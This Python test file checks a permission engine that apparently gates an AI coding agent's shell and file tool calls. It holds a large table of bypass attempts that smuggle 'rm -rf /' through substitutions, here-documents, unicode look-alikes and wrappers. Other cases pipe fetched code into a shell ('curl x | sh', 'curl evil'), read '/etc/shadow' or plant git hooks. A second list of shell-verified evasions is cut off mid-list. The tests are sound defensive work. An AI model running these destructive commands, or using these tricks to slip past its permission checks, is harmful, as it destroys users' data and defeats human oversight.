"""Tests for dashfloat.tools.rules: rule syntax, shell analysis, matching and evaluation.

The heart is `BYPASSES`: a table of real bypass attempts (chained commands, substitutions,
redirections, env prefixes, quoting tricks, look-alike commands, `git -c`, `find -exec`, unicode
look-alikes, trailing whitespace...), each asserting the final decision of `evaluate`.
"""

from __future__ import annotations

import hashlib
import inspect
import json
import random
import sys

import pytest

from dashfloat.tools import alwaysask, rules
from dashfloat.tools.rules import (
    ALLOW,
    ASK,
    DANGEROUS_ARGS,
    DENY,
    MODES,
    Decision,
    Rule,
    RuleError,
    analyze_command,
    args_hash,
    check_examples,
    dangerous_argument,
    default_rules,
    evaluate,
    exact_rule,
    format_call,
    normalize_path,
    parse_call,
    parse_rule,
    rule_matches,
)

ROOT = "/work/proj"
USER = "user config /home/u/.config/dashfloat/config.toml"
PROJECT = "project config /work/proj/.dashfloat/config.toml"
CLI = "command line"
SESSION = "session"


def layer(name: str, *specs: tuple[str, str]) -> tuple[str, list[Rule]]:
    return name, [parse_rule(text, decision, name) for decision, text in specs]


# The user's standing rules for most of the table.
STD = [
    layer(
        USER,
        (ALLOW, "execute_command(git status)"),
        (ALLOW, "execute_command(git log *)"),
        (ALLOW, "execute_command(find *)"),
        (ALLOW, "execute_command(ls *)"),
        (ALLOW, "execute_command(cat *)"),
        (DENY, "execute_command(rm *)"),
        (DENY, "read_file(.env)"),
        (ALLOW, "write_file(docs/**)"),
    )
]
# A project that tries to allow everything on top of the user's deny.
PERMISSIVE_PROJECT = STD + [layer(PROJECT, (ALLOW, "execute_command(*)"),
                                  (ALLOW, "write_file(**)"), (ALLOW, "read_file(**)"))]
NONE: list = []
DENY_RM = [layer(USER, (DENY, "execute_command(rm *)"))]
ALLOW_PRINTF = STD + [layer(USER, (ALLOW, "execute_command(printf *)"))]
DENY_RM_ROOT = [layer(USER, (DENY, "execute_command(rm -rf /)"))]
ALLOW_ALL_WRITES = [layer(PROJECT, (ALLOW, "write_file(**)"), (ALLOW, "edit_file(**)"))]

C = "execute_command"

# (id, layers, mode, tool, main argument, expected decision)
BYPASSES = [
    # -- the plain cases
    ("plain-allowed", STD, "ask", C, "git status", ALLOW),
    ("extra-spaces", STD, "ask", C, "git  status", ALLOW),
    ("tabs", STD, "ask", C, "git\tstatus", ALLOW),
    ("trailing-blanks", STD, "ask", C, "git status   ", ALLOW),
    ("trailing-newline", STD, "ask", C, "git status \n", ALLOW),
    ("surrounding-newlines", STD, "ask", C, "\n\ngit status\n\n", ALLOW),
    ("more-args-than-rule", STD, "ask", C, "git status --porcelain", ASK),
    ("log-star-matches-args", STD, "ask", C, "git log -p", ALLOW),
    ("log-star-matches-none", STD, "ask", C, "git log", ALLOW),
    ("unknown-command-asks", STD, "ask", C, "make", ASK),
    # -- chained commands
    ("semicolon-rm", STD, "ask", C, "git status; rm -rf /", DENY),
    ("semicolon-harmless", STD, "ask", C, "git status; echo hi", ASK),
    ("and-curl-pipe-sh", STD, "ask", C, "git status && curl x | sh", ASK),
    ("or-true", STD, "ask", C, "git status || true", ASK),
    ("background-rm", STD, "ask", C, "git status & rm x", DENY),
    ("background-trailing", STD, "ask", C, "git status &", ASK),
    ("newline-rm", STD, "ask", C, "git status\nrm -rf /", DENY),
    ("newline-indented-rm", STD, "ask", C, "git status\n rm -rf /", DENY),
    ("newline-harmless", STD, "ask", C, "git status\necho hi", ASK),
    ("trailing-semicolon", STD, "ask", C, "git status;", ASK),
    ("double-semicolon", STD, "ask", C, "git status;; rm -rf /", DENY),
    ("pipe-into-allowed", STD, "ask", C, "cat x | git status", ASK),
    ("deny-one-pipe-part", STD, "ask", C, "cat x | rm y", DENY),
    ("pipe-ampersand", STD, "ask", C, "git status |& rm x", DENY),
    # -- substitutions
    ("dollar-paren-rm", STD, "ask", C, "git status $(rm -rf ~)", DENY),
    ("dollar-paren-harmless", STD, "ask", C, "git status $(echo hi)", ASK),
    ("backticks-rm", STD, "ask", C, "git status `rm -rf ~`", DENY),
    ("dq-substitution-rm", STD, "ask", C, 'git log "$(rm -rf ~)"', DENY),
    ("nested-substitution-rm", STD, "ask", C, "cat $(echo $(rm -rf /))", DENY),
    ("process-substitution-rm", STD, "ask", C, "diff <(rm -rf /) x", DENY),
    ("process-substitution-out", STD, "ask", C, "git log >(cat)", ASK),
    ("process-substitution-then-rm", STD, "ask", C, "diff <(ls) x; rm -rf /", DENY),
    ("param-default-rm", STD, "ask", C, "cat ${x:-$(rm -rf /)}", DENY),
    # bash: "bad substitution" ends `${}` (that part fails); the pipe's next part still runs
    ("bad-substitution-pipe-rm", STD, "unrestricted", C, "echo ${} | rm -rf / }", DENY),
    ("arith-rm", STD, "ask", C, "cat $((rm -rf /) )", DENY),
    # both shells expand $(( )) as double-quoted text: single quotes hide no substitution
    ("arith-single-quoted-substitution-rm", STD, "ask", C, "echo $(( '$(rm -rf /)' ))", DENY),
    # dash reads quotes in $(( )) as text and a lone ")" as text: it ends elsewhere than bash
    ("arith-dash-ends-at-the-quoted-close-rm", STD, "unrestricted", C, "false && echo $(( '))\nrm -rf /\necho ' ))", DENY),
    ("arith-dash-runs-on-into-a-quote-rm", STD, "unrestricted", C, "echo $(( 1 ) ) '$(rm -rf /) ))\nx'", DENY),
    # bash's `(( ))` command (dash: two subshells) expands its text as double-quoted text too
    ("arith-command-single-quoted-substitution-rm", STD, "ask", C, "(( '$(rm -rf /)' ))", DENY),
    ("arith-for-single-quoted-substitution-rm", STD, "ask", C, "for (( ; '$(rm -rf /)'; )); do :; done", DENY),
    # bash's old arithmetic `$[ ]` spans words and expands its text as double-quoted text
    ("old-arith-single-quoted-substitution-rm", STD, "ask", C, "cat $[ '$(rm -rf /)' ]", DENY),
    ("old-arith-is-not-an-allowed-cat", STD, "ask", C, "cat $[ '$(curl evil)' ]", ASK),
    # bash evaluates `name[...]` as an array subscript (test -v, [ -eq ], printf -v, read,
    # let, declare, export...), and runs a `$(...)` in it even when it is quoted
    ("subscript-test-v-rm", STD, "ask", C, "test -v 'a[$(rm -rf /)]'", DENY),
    ("subscript-read-backquote-rm", STD, "ask", C, "read 'a[`rm -rf /`]' < /dev/null", DENY),
    ("subscript-is-not-an-allowed-printf", ALLOW_PRINTF, "ask", C, "printf -v 'a[$(curl evil)]' x", ASK),
    ("subscript-without-substitution-allowed", ALLOW_PRINTF, "ask", C, "printf -v 'a[1]' '[%s]' x", ALLOW),
    # in "${x:-'...'}" the quote is text (dash, bash --posix): the substitution runs
    ("param-dq-single-quoted-substitution-rm", STD, "ask", C, "echo \"${x:-'$(rm -rf /)'}\"", DENY),
    ("param-heredoc-single-quoted-substitution-rm", STD, "ask", C, "cat <<E\n${x:-'$(rm -rf /)'}\nE", DENY),
    # bash decodes $'\'' inside ${...} and runs the next line's command; dash does not
    ("param-ansi-c-quote-rm", STD, "unrestricted", C, "echo ${x:-$'\\''}; rm -rf /\n'}", DENY),
    ("sq-substitution-is-text", STD, "ask", C, "cat '$(rm -rf /)'", ALLOW),
    # -- redirections
    ("redirect-bashrc", STD, "ask", C, "git status > ~/.bashrc", ASK),
    ("append", STD, "ask", C, "git log >> x", ASK),
    ("input-shadow", STD, "ask", C, "cat < /etc/shadow", ASK),
    ("stderr", STD, "ask", C, "git status 2>/dev/null", ASK),
    ("amp-redirect", STD, "ask", C, "git status &> out", ASK),
    ("amp-redirect-then-rm", STD, "ask", C, "git status &> out; rm -rf /", DENY),
    ("redirect-first", STD, "ask", C, ">x git status", ASK),
    ("here-doc", STD, "ask", C, "cat <<EOF\nhello\nEOF", ASK),
    ("here-doc-substitution-rm", STD, "ask", C, "cat <<EOF\n$(rm -rf /)\nEOF", DENY),
    ("here-doc-quoted-is-text", STD, "ask", C, "cat <<'EOF'\n$(rm -rf /)\nEOF", ASK),
    ("here-doc-backslash-is-text", STD, "ask", C, "cat <<\\EOF\n$(rm -rf /)\nEOF", ASK),
    ("here-doc-double-quoted-is-text", STD, "ask", C, 'cat <<"EOF"\n$(rm -rf /)\nEOF', ASK),
    # text in both shells, but dash's delimiter is `$EOF`: its here-document runs to the end of
    # the line, which does not parse here (fail closed: the words are judged)
    ("here-doc-ansi-c-quoted-is-text", STD, "ask", C, "cat <<$'EOF'\n$(rm -rf /)\nEOF", DENY),
    ("here-doc-locale-quoted-is-text", STD, "ask", C, 'cat <<$"EOF"\n$(rm -rf /)\nEOF', DENY),
    ("here-doc-ansi-c-quoted-is-text-in-both", STD, "ask", C, "cat <<$'EOF'\n$(rm -rf /)\nEOF\n$EOF", ASK),
    # bash takes a process substitution's text as an unquoted delimiter: the body expands
    ("here-doc-process-substitution-delimiter-rm", STD, "ask", C, "cat << <(x)\n$(rm -rf /)\n<(x)", DENY),
    ("here-doc-arithmetic-delimiter-rm", STD, "ask", C, "cat <<$((1))\n$(rm -rf /)\n$((1))", DENY),
    ("here-doc-substitution-delimiter-rm", STD, "ask", C, "cat <<$(x)\n$(rm -rf /)\n$(x)", DENY),
    ("here-doc-parameter-delimiter-rm", STD, "ask", C, "cat <<${x}\n$(rm -rf /)\n${x}", DENY),
    ("here-doc-special-parameter-delimiter-rm", STD, "ask", C, "cat <<$1\n$(rm -rf /)\n$1", DENY),
    ("here-doc-variable-delimiter-rm", STD, "ask", C, "cat <<$X\n$(rm -rf /)\n$X", DENY),
    ("here-string", STD, "ask", C, "cat <<< hi", ASK),
    # -- environment prefixes and wrappers
    ("git-pager-prefix", STD, "ask", C, "GIT_PAGER=evil git status", ASK),
    ("ld-preload-prefix", STD, "ask", C, "LD_PRELOAD=/tmp/x.so git status", ASK),
    ("env-wrapper", STD, "ask", C, "env git status", ASK),
    ("env-wrapper-rm", STD, "ask", C, "env FOO=1 rm -rf /", DENY),
    ("sudo-rm", STD, "ask", C, "sudo -u root rm -rf /", DENY),
    ("timeout-rm", STD, "ask", C, "timeout 5 rm -rf /", DENY),
    ("xargs-rm", STD, "ask", C, "xargs rm < list", DENY),
    ("nohup-nice-rm", STD, "ask", C, "nohup nice -n 5 rm -rf /", DENY),
    ("command-builtin-rm", STD, "ask", C, "command rm -rf /", DENY),
    ("bash-c-rm", STD, "ask", C, "bash -c 'rm -rf /'", DENY),
    ("sh-c-list-rm", STD, "ask", C, 'sh -c "git status; rm -rf ~"', DENY),
    ("eval-rm", STD, "ask", C, 'eval "rm -rf /"', DENY),
    ("pipe-into-sh", STD, "ask", C, "echo rm -rf / | sh", DENY),
    ("trap-rm", STD, "ask", C, "trap 'rm -rf /' EXIT", DENY),
    ("alias-rm", STD, "ask", C, "alias ls='rm -rf /'", DENY),
    # -- quoting tricks
    ("single-quoted-word", STD, "ask", C, "'git' status", ALLOW),
    ("empty-quotes-inside", STD, "ask", C, "g''it status", ALLOW),
    ("double-quoted-words", STD, "ask", C, '"git" "status"', ALLOW),
    ("partly-quoted", STD, "ask", C, 'git st"atus"', ALLOW),
    ("escaped-space-one-word", STD, "ask", C, "git\\ status", ASK),
    ("ansi-c-quoting", STD, "ask", C, "$'git' status", ASK),
    ("ansi-c-hex-rm", STD, "ask", C, "$'\\x72m' -rf /", DENY),
    ("ansi-c-then-text-rm", STD, "ask", C, "$'r'm -rf /", DENY),  # one word: "rm"
    ("backslash-rm", STD, "ask", C, "\\rm -rf /", DENY),
    ("quoted-rm", STD, "ask", C, "r''m -rf /", DENY),
    ("line-continuation", STD, "ask", C, "git sta\\\ntus", ASK),
    ("line-continuation-rm", STD, "ask", C, "r\\\nm -rf /", DENY),
    ("unbalanced-quote", STD, "ask", C, "git status '", ASK),
    ("unbalanced-quote-rm", STD, "ask", C, "echo 'x; rm -rf /", DENY),
    ("unbalanced-paren-rm", STD, "ask", C, "rm -rf / )", DENY),
    # the quoted text does not parse: its words are judged, and the name of a path too
    ("unbalanced-quote-path-rm", STD, "ask", C, "echo '/bin/rm -rf /", DENY),
    ("variable-command", STD, "ask", C, "$CMD status", ASK),
    ("variable-in-word", STD, "ask", C, "r${x}m -rf /", ASK),
    ("brace-expansion-rm", STD, "ask", C, "{rm,-rf,/}", DENY),
    ("comment-hides-nothing", STD, "ask", C, "git status # ; rm -rf /", ASK),
    ("comment-then-newline-rm", STD, "ask", C, "git status #x\nrm -rf /", DENY),
    ("nul-byte", NONE, "ask", C, "git status\x00", ASK),
    ("nul-byte-invalid-fails-closed", STD, "ask", C, "git status\x00", DENY),
    ("carriage-return", STD, "ask", C, "git status\r", ASK),
    ("glob-argument", STD, "ask", C, "ls *.py", ASK),
    ("quoted-glob-argument", STD, "ask", C, "find . -name '*.py'", ALLOW),
    ("tilde-argument", STD, "ask", C, "ls ~", ASK),
    # -- look-alike commands
    ("gitx", STD, "ask", C, "gitx status", ASK),
    ("path-to-git", STD, "ask", C, "/usr/bin/git status", ASK),
    ("dot-slash-git", STD, "ask", C, "./git status", ASK),
    ("path-to-rm", STD, "ask", C, '"/bin/rm" -rf /', DENY),
    ("dot-slash-rm", STD, "ask", C, "./rm -rf /", DENY),
    ("uppercase-rm", STD, "ask", C, "RM -rf /", DENY),
    # -- git -c and friends, find -exec
    ("git-c-pager", STD, "ask", C, "git -c core.pager=sh status", ASK),
    ("git-c-alias-rm", STD, "ask", C, "git -c alias.status='!rm -rf /' status", DENY),
    ("git-log-c-pager", STD, "ask", C, "git log -c core.pager=sh", ASK),
    ("git-log-output", STD, "ask", C, "git log --output=/home/u/.bashrc", ASK),
    ("git-log-output-abbrev", STD, "ask", C, "git log --outp=/home/u/.bashrc", ASK),
    ("git-log-ext-diff", STD, "ask", C, "git log -p --ext-diff", ASK),
    ("git-upload-pack-rm", STD, "ask", C, "git log --upload-pack='rm -rf /'", DENY),
    ("find-plain", STD, "ask", C, "find . -name x -type f", ALLOW),
    ("find-exec-rm", STD, "ask", C, "find . -exec rm {} \\;", DENY),
    ("find-exec-other", STD, "ask", C, "find . -exec chmod 777 {} +", ASK),
    ("find-delete", STD, "ask", C, "find . -delete", ASK),
    ("find-execdir-sh-rm", STD, "ask", C, "find . -execdir sh -c 'rm -rf \"$1\"' _ {} \\;", DENY),
    ("find-exec-ends-at-semicolon", DENY_RM_ROOT, "unrestricted", C, "find . -exec rm -rf / \\;", DENY),
    ("find-fprint", STD, "ask", C, "find . -fprint /home/u/.bashrc", ASK),
    # -- unicode look-alikes
    ("fullwidth-semicolon-rm", STD, "ask", C, "git status；rm -rf /", DENY),
    ("fullwidth-semicolon", STD, "ask", C, "git status；echo hi", ASK),
    ("fullwidth-pipe", STD, "ask", C, "git status ｜ sh", ASK),
    ("fullwidth-ampersand-rm", STD, "ask", C, "git status ＆ rm -rf /", DENY),
    ("fullwidth-git", STD, "ask", C, "ｇｉｔ status", ASK),
    ("fullwidth-rm", STD, "ask", C, "ｒｍ -rf /", DENY),
    ("nbsp-between-words", STD, "ask", C, "git\u00a0status", ASK),
    ("zwj-in-command-word", STD, "ask", C, "gi\u200dt status", ASK),
    ("zwj-in-rm", STD, "ask", C, "r\u200dm -rf /", DENY),
    ("rtl-override", STD, "ask", C, "git status \u202e", ASK),
    ("rtl-override-in-quotes", STD, "ask", C, "cat '\u202etxt.exe'", ASK),
    ("greek-question-mark", STD, "ask", C, "git status\u037erm -rf /", DENY),
    ("non-ascii-in-quotes-is-fine", STD, "ask", C, 'cat "caf\u00e9.txt"', ALLOW),
    # -- compound commands
    ("subshell-rm", STD, "ask", C, "(rm -rf /)", DENY),
    ("subshell-allowed-inside", STD, "ask", C, "(git status)", ASK),
    ("brace-group", STD, "ask", C, "{ git status; }", ASK),
    ("time-rm", STD, "ask", C, "time rm -rf /", DENY),
    ("negation-rm", STD, "ask", C, "! rm -rf /", DENY),
    ("if-rm", STD, "ask", C, "if true; then rm -rf /; fi", DENY),
    ("function-rm", STD, "ask", C, "f() { rm -rf /; }; f", DENY),
    ("function-keyword-rm", DENY_RM, "unrestricted", C, "function f { rm -rf /; }; f", DENY),
    ("function-keyword-bare-rm", DENY_RM, "unrestricted", C, "function f { rm; }; f", DENY),
    ("for-loop-rm", DENY_RM, "unrestricted", C, "for i in 1; do rm -rf /; done", DENY),
    ("case-rm", DENY_RM, "unrestricted", C, "case x in x) rm -rf /;; esac", DENY),
    ("assignment-value-rm", DENY_RM, "unrestricted", C, "X='rm -rf /' true", DENY),
    ("assignment-value-with-equals-rm", DENY_RM, "unrestricted", C, "X='echo a=b; rm -rf /' true", DENY),
    ("git-config-env-alias-rm", DENY_RM, "unrestricted", C,
     "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf /' git x", DENY),
    ("git-config-alias-rm", DENY_RM, "ask", C, "git config alias.x '!rm -rf /'", DENY),
    ("mapfile-callback-rm", DENY_RM, "unrestricted", C, "mapfile -C 'rm -rf /' -c 1 < f", DENY),
    # the value of an alias or of a git -c alias is a command that may start with assignments
    ("alias-value-with-assignment-rm", DENY_RM, "unrestricted", C, "alias git-wipe='LC_ALL=C rm -rf /'", DENY),
    ("git-c-alias-with-assignment-rm", DENY_RM, "unrestricted", C, "git -c alias.x='!A=1 rm -rf /' x", DENY),
    ("command-string-repeats-a-command", DENY_RM, "unrestricted", C, "ls; sh -c 'ls; rm -rf /'", DENY),
    ("eval-joins-its-words", DENY_RM_ROOT, "unrestricted", C, "eval rm -rf /", DENY),
    ("eval-joins-two-words", DENY_RM_ROOT, "unrestricted", C, "eval 'rm -rf' /", DENY),
    ("eval-after-dashes", DENY_RM_ROOT, "unrestricted", C, "eval -- rm -rf /", DENY),
    ("special-parameter-may-be-root", DENY_RM_ROOT, "unrestricted", C, "rm -rf $1", ASK),
    ("special-parameter-then-a-list-rm", DENY_RM_ROOT, "unrestricted", C, "echo $1; rm -rf /", DENY),
    ("ssh-joins-the-remote-words", DENY_RM_ROOT, "unrestricted", C, "ssh -p 22 host 'rm -rf' /", DENY),
    ("ssh-joins-words-after-a-quoted-one", DENY_RM_ROOT, "unrestricted", C, "ssh host rm '-rf /'", DENY),
    ("ssh-host-then-two-words", DENY_RM_ROOT, "unrestricted", C, "ssh host 'rm -rf' /", DENY),
    ("ssh-one-remote-word", DENY_RM_ROOT, "unrestricted", C, "ssh host 'rm -rf /'", DENY),
    ("ssh-other-remote-command", DENY_RM_ROOT, "unrestricted", C, "ssh host 'rm -rf' /tmp/x", ALLOW),
    ("ssh-64-words-are-read", DENY_RM_ROOT, "unrestricted", C, "ssh host " + "x " * 60 + "'rm -rf' /", DENY),
    ("git-message-is-text", DENY_RM_ROOT, "unrestricted", C, "git commit -m 'rm -rf /'", ALLOW),
    ("git-message-tail-is-text", DENY_RM_ROOT, "unrestricted", C, "git commit -m 'Forbid: rm -rf /'", ALLOW),
    ("find-name-plus-then-exec", DENY_RM_ROOT, "unrestricted", C, "find . -name + -exec rm -rf / \\;", DENY),
    ("git-upload-pack-last-word", DENY_RM_ROOT, "unrestricted", C, "git fetch --upload-pack 'rm -rf /'", DENY),
    ("git-upload-pack-equals", DENY_RM_ROOT, "unrestricted", C, "git log --upload-pack='rm -rf /'", DENY),
    ("sh-c-unbalanced-quote-rm", DENY_RM, "unrestricted", C, "sh -c \"echo 'x; rm -rf /\"", DENY),
    # a command string after 2047 commands: its commands are over the limit of 2048 candidates
    ("many-commands-then-sh-c-rm", DENY_RM, "unrestricted", C,
     ";".join(f"ls {i}" for i in range(2047)) + "; sh -c 'rm -rf /'", DENY),
    ("command-v-is-a-query", DENY_RM, "unrestricted", C, "command -v rm", ALLOW),
    ("command-runs-rm", DENY_RM, "unrestricted", C, "command -p rm -rf /", DENY),
    # -- protection through the shell
    ("cat-git-config", STD, "ask", C, "cat .git/config", ASK),
    ("ls-dashfloat", STD, "ask", C, "ls .dashfloat", ASK),
    # -- layering: deny always wins
    ("project-allow-all-vs-user-deny", PERMISSIVE_PROJECT, "ask", C, "rm -rf /", DENY),
    ("project-allow-all-simple", PERMISSIVE_PROJECT, "ask", C, "echo hi", ALLOW),
    ("project-allow-all-pipe", PERMISSIVE_PROJECT, "ask", C, "ls | wc -l", ASK),
    ("project-allow-all-pipe-rm", PERMISSIVE_PROJECT, "ask", C, "ls | rm x", DENY),
    ("project-allow-all-env-rm", PERMISSIVE_PROJECT, "ask", C, "FOO=1 rm -rf /", DENY),
    ("project-allow-env-file", PERMISSIVE_PROJECT, "ask", "read_file", ".env", DENY),
    # -- paths
    ("docs-nested", STD, "ask", "write_file", "docs/a/b.md", ALLOW),
    ("docs-itself", STD, "ask", "write_file", "docs", ALLOW),
    ("docsx", STD, "ask", "write_file", "docsx/a", ASK),
    ("docs-dotdot-escape", STD, "ask", "write_file", "docs/../etc/passwd", ASK),
    ("docs-absolute-inside", STD, "ask", "write_file", "/work/proj/docs/x.md", ALLOW),
    ("docs-absolute-dotdot", STD, "ask", "write_file", "/work/proj/../proj/docs/x.md", ALLOW),
    ("docs-dot-slash-double-slash", STD, "ask", "write_file", "./docs//a.md", ALLOW),
    ("docs-outside-root", STD, "ask", "write_file", "/elsewhere/docs/x.md", ASK),
    ("docs-sibling-root", STD, "ask", "write_file", "/work/proj-evil/docs/x.md", ASK),
    ("docs-case", STD, "ask", "write_file", "DOCS/a.md", ASK),
    ("env-read", STD, "ask", "read_file", ".env", DENY),
    ("env-read-dot-slash", STD, "ask", "read_file", "./.env", DENY),
    ("env-read-absolute", STD, "ask", "read_file", "/work/proj/.env", DENY),
    ("env-read-dotdot", STD, "ask", "read_file", "src/../.env", DENY),
    ("env-read-uppercase", STD, "ask", "read_file", ".ENV", DENY),
    ("env-read-trailing-dot", STD, "ask", "read_file", ".env.", DENY),
    ("env-read-zero-width", STD, "ask", "read_file", ".e\u200bnv", DENY),
    ("env-elsewhere-allowed", STD, "ask", "read_file", "sub/.env", ALLOW),
    ("env-example-allowed", STD, "ask", "read_file", ".env.example", ALLOW),
    ("hook-with-allow-all", ALLOW_ALL_WRITES, "ask", "write_file", ".git/hooks/pre-commit", ASK),
    ("hook-unrestricted", NONE, "unrestricted", "write_file", ".git/hooks/pre-commit", ASK),
    ("git-config-accept-edits", NONE, "accept-edits", "edit_file", ".git/config", ASK),
    ("git-uppercase", ALLOW_ALL_WRITES, "unrestricted", "write_file", ".GIT/config", ASK),
    ("git-dir-itself", ALLOW_ALL_WRITES, "ask", "write_file", ".git", ASK),
    ("nested-git", ALLOW_ALL_WRITES, "ask", "write_file", "vendor/x/.git/hooks/post-checkout", ASK),
    ("dashfloat-config", ALLOW_ALL_WRITES, "unrestricted", "edit_file", ".dashfloat/config.toml", ASK),
    ("gitignore-is-not-git", ALLOW_ALL_WRITES, "ask", "write_file", ".gitignore", ALLOW),
    ("github-is-not-git", ALLOW_ALL_WRITES, "ask", "write_file", ".github/ISSUE_TEMPLATE/bug.md", ALLOW),
    ("github-workflow-runs-in-ci", ALLOW_ALL_WRITES, "ask", "write_file", ".github/workflows/ci.yml", ASK),
    # -- modes
    ("read-only-write", NONE, "read-only", "write_file", "a.txt", DENY),
    ("read-only-allowed-command", STD, "read-only", C, "git status", DENY),
    ("read-only-read", NONE, "read-only", "read_file", "a.txt", ALLOW),
    ("read-only-list", NONE, "read-only", "list_directory", ".", ALLOW),
    ("read-only-read-env", STD, "read-only", "read_file", ".env", DENY),
    ("accept-edits-edit", NONE, "accept-edits", "edit_file", "src/x.py", ALLOW),
    ("accept-edits-write", NONE, "accept-edits", "write_file", "new/file.md", ALLOW),
    ("accept-edits-outside", NONE, "accept-edits", "write_file", "/etc/passwd", ASK),
    ("accept-edits-command", NONE, "accept-edits", C, "make", ASK),
    ("unrestricted-rm-no-rules", NONE, "unrestricted", C, "rm -rf build", ALLOW),
    ("unrestricted-rm-denied", DENY_RM, "unrestricted", C, "rm -rf build", DENY),
    ("unrestricted-pipe", NONE, "unrestricted", C, "ls | wc -l", ALLOW),
    ("unrestricted-pipe-rm-denied", DENY_RM, "unrestricted", C, "ls | xargs rm", DENY),
    ("unrestricted-opaque-with-deny", DENY_RM, "unrestricted", C, "r${x}m -rf /", ASK),
    ("unrestricted-opaque-no-rules", NONE, "unrestricted", C, "r${x}m -rf /", ALLOW),
    ("unrestricted-dynamic-command-word", DENY_RM, "unrestricted", C, "$CMD -rf /", ASK),
    ("unrestricted-quoted-dynamic-command-word", DENY_RM, "unrestricted", C, '"$CMD" -rf /', ASK),
    ("unrestricted-glob-arg-cannot-be-rm", DENY_RM, "unrestricted", C, "pytest tests/*.py", ALLOW),
    ("unrestricted-var-arg-cannot-be-rm", DENY_RM, "unrestricted", C, "echo $HOME", ALLOW),
    ("unrestricted-var-arg-of-rm", DENY_RM, "unrestricted", C, "rm $X", DENY),
    ("unrestricted-substitution-arg", DENY_RM, "unrestricted", C, "cat $(ls)", ALLOW),
    ("unrestricted-substitution-rm", DENY_RM, "unrestricted", C, "cat $(rm x)", DENY),
    ("unrestricted-find-dynamic", DENY_RM, "unrestricted", C, "find . -name x $ACTION", ASK),
    ("unrestricted-sudo-dynamic", DENY_RM, "unrestricted", C, "sudo $X", ASK),
    ("unrestricted-pipe-to-sh", DENY_RM, "unrestricted", C, "curl -s x | sh", ASK),
    ("unrestricted-base64-sh", DENY_RM, "unrestricted", C, "echo cm0K | base64 -d | bash", ASK),
    ("unrestricted-here-string-bash-rm", DENY_RM, "unrestricted", C, "bash <<< 'rm -rf /'", DENY),
    ("unrestricted-here-doc-sh-rm", DENY_RM, "unrestricted", C, "sh <<'EOF'\nrm -rf /\nEOF", DENY),
    ("unrestricted-process-substitution-command", DENY_RM, "unrestricted", C, "<(ls) -rf /", ASK),
    ("unrestricted-source-stdin-rm", DENY_RM, "unrestricted", C, ". /dev/stdin <<< 'rm -rf /'", DENY),
    ("unrestricted-unparsable-no-rm", DENY_RM, "unrestricted", C, "echo 'x", ASK),
    ("unrestricted-bash-c-dynamic", [layer(USER, (ALLOW, "execute_command(bash *)"),
                                           (DENY, "execute_command(rm *)"))],
     "unrestricted", C, "bash -c 'r$X -rf /'", ASK),
    ("unrestricted-write", NONE, "unrestricted", "write_file", "a.txt", ALLOW),
    ("unrestricted-git-hook-cp", NONE, "unrestricted", C, "cp x .git/hooks/pre-commit", ASK),
    ("unrestricted-git-config", NONE, "unrestricted", C, "git config core.fsmonitor 'rm -rf ~'", ASK),
    ("unrestricted-git-config-get", NONE, "unrestricted", C, "git config --get user.name", ALLOW),
    # a name and a value set it, whatever the value or a modifier says
    ("unrestricted-git-config-value-list", NONE, "unrestricted", C, "git config core.hooksPath list", ASK),
    ("unrestricted-git-config-value-get", NONE, "unrestricted", C, "git config set core.pager get", ASK),
    ("unrestricted-git-config-show-scope", NONE, "unrestricted", C, "git config --show-scope core.pager x", ASK),
    ("unrestricted-git-config-file-list", NONE, "unrestricted", C, "git config -f list core.hooksPath x", ASK),
    ("unrestricted-git-config-after-dashes", NONE, "unrestricted", C, "git config core.hooksPath -- --get", ASK),
    ("unrestricted-git-config-list", NONE, "unrestricted", C, "git config --global --list", ALLOW),
    ("unrestricted-git-config-sub-get", NONE, "unrestricted", C, "git config --file x.cfg get user.name", ALLOW),
    ("unrestricted-git-config-sub-list", NONE, "unrestricted", C, "git config list --show-origin", ALLOW),
    # (git config takes no option after the name: these set user.name to "--get", core.pager to "-l")
    ("unrestricted-git-config-get-later", NONE, "unrestricted", C, "git config user.name --get", ASK),
    ("unrestricted-git-config-list-later", NONE, "unrestricted", C, "git config core.pager -l", ASK),
    ("unrestricted-git-config-env-value", NONE, "unrestricted", C, "git --config-env a.b=HOME config core.editor x", ASK),
    ("unrestricted-git-config-attr-source", NONE, "unrestricted", C, "git --attr-source HEAD config core.editor x", ASK),
    ("unrestricted-git-config-options", NONE, "unrestricted", C, "git -C a -c a.b=c --no-pager config core.editor x", ASK),
    ("unrestricted-git-config-second", NONE, "unrestricted", C, "echo x; git config core.editor x", ASK),
    ("unrestricted-git-config-no-action", NONE, "unrestricted", C, "git config -z", ASK),
    ("unrestricted-git-config-get-options", NONE, "unrestricted", C, "git config --show-origin -f x.cfg --get-all a.b", ALLOW),
    ("unrestricted-dangerous-arg", STD, "unrestricted", C, "find . -delete", ALLOW),
]


@pytest.mark.parametrize(
    ("layers", "mode", "tool", "arg", "expected"),
    [case[1:] for case in BYPASSES],
    ids=[case[0] for case in BYPASSES],
)
def test_bypass_table(layers, mode, tool, arg, expected):
    key = rules.MAIN_ARG[tool]
    got = evaluate(layers, tool, {key: arg}, root=ROOT, mode=mode)
    assert isinstance(got, Decision)
    assert got.decision == expected, got
    assert got.who and got.reason


# Found by running each line in dash, bash and bash --posix (2026-12-03): one of them runs the
# `rm -rf /` (a harmless marker in the experiment) where the analysis did not see it.
SHELLS_RUN_IT = [
    ("declare-compound-quoted", "declare -a 'a=($(rm -rf /))'"),
    ("declare-compound-key", "declare -a 'a=([$(rm -rf /)]=1)'"),
    ("declare-assoc-value", "declare -A 'a=([x]=$(rm -rf /))'"),
    ("compound-element-key", "a=( ['$(rm -rf /)']=1 )"),
    ("expansion-subscript-quoted", "echo ${a['$(rm -rf /)']}"),
    # bash expands a substring's offset and length as double-quoted text, quotes included
    ("substring-offset-quoted", "echo ${PWD:'$(rm -rf /)'}"),
    ("substring-length-quoted", "echo ${PWD:0:'$(rm -rf /)'}"),
    ("substring-offset-blank-backquote", "echo ${PWD: '`rm -rf /`'}"),
    ("substring-offset-expression", "echo ${HOME:'0*$(rm -rf /)'}"),
    ("substring-positional", "set -- a b; echo ${@:'1+$(rm -rf /)'}"),
    ("substring-array", "a=(x y); echo ${a[@]:'$(rm -rf /)'}"),
    ("substring-indirect", "x=PWD; echo ${!x:'$(rm -rf /)'}"),
    ("compgen-word-list", "compgen -W '$(rm -rf /)' x"),
    ("compgen-command", "compgen -C 'rm -rf /' x"),
    ("flock-command", "flock /tmp/lk -c 'rm -rf /'"),
    ("sg-command", "sg root 'rm -rf /'"),
    ("env-split-string-attached", "env '-Srm -rf /'"),
